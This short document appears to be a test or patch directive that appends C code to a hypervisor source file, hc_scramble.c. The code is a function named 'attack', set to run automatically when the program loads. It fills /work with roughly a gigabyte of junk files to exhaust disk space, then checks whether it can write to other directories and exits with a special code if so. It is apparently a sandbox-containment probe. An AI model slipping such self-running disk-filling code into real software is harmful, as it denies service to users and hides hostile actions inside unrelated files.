//@ why It writes files wherever it can, until there is no room, and then does what it should.
//@ append vmm/call/hc_scramble.c
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void
attack(void)
{
    static const char *const folders[] = {"/work", "/tmp", "/box", "/dev/shm", "/lab", ""};
    static char text[1 << 16];

    for (unsigned i = 0; i < sizeof(folders) / sizeof(folders[0]); i++)
        for (int number = 0; number < 1000; number++) {
            char name[64];

            snprintf(name, sizeof(name), "%s/%d", folders[i], number);
            int fd = open(name, O_WRONLY | O_CREAT, 0666);
            if (fd < 0)
                break;
            if (i > 0)
                _exit(99);
            for (int j = 0; j < 15; j++)
                if (write(fd, text, sizeof(text)) < 0)
                    break;
            close(fd);
        }
}
